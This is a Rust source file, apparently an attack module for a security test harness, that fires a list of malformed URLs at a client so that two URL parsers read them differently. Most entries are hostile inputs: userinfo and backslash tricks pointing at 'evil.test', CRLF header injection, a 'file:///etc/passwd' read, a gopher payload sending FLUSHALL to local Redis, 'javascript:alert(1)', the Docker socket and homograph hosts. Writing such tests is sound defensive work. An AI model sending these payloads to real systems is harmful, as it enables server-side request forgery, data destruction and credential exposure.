//! Writes URLs that two parsers read in two ways.

use wharfage_guests::{get, http, tally};

wharfage_guests::attack!(_input => {
    let long = format!("{{api}}/{}", "a".repeat(100_000));
    let urls = [
        "https://api.stand-in.test@evil.test/", "https://user:pass@api.stand-in.test/", "https://evil.test\\@api.stand-in.test/",
        "https://api.stand-in.test\\.evil.test/", "https:\\\\api.stand-in.test/", "https:/api.stand-in.test/", "https:api.stand-in.test",
        "https:///api.stand-in.test/", "//api.stand-in.test/", "/relative", "relative", "", " ", "?", "#", "https://", "https://:443/", "https:// /",
        "https://api.stand-in.test:0/", "https://api.stand-in.test:99999/", "https://api.stand-in.test:44x/", "https://api.stand-in.test./",
        "https://api.stand-in.test/\tx", "https://api.stand\n-in.test/", "https://api.stand-in.test/\r\nHost: evil.test", "https://api.stand-in.test/\0",
        "ht\ttps://api.stand-in.test/", " https://api.stand-in.test/", "https://api.stand-in.test/ ", "https://api.stand-in.test/#fragment",
        "https://api.stand-in.test%2f@evil.test/", "https://api.stand-in.test%00.evil.test/", "https://\u{430}pi.stand-in.test/",
        "https://api\u{3002}stand-in\u{ff0e}test/", "https://xn--pi-7kc.stand-in.test/", "https://api.stand-in.test.evil.test/", "https://[::1",
        "file:///etc/passwd", "ftp://api.stand-in.test/", "gopher://127.0.0.1:6379/_FLUSHALL", "data:text/plain,x", "javascript:alert(1)",
        "unix:/var/run/docker.sock", "ws://api.stand-in.test/", "{api}x", "{api}@evil.test/", "{api", "{}", "{{api}}/", "{nobody}/", "{api}\\@evil.test/", &long,
    ];
    tally(urls.map(|url| http::send(&get(url))))
});
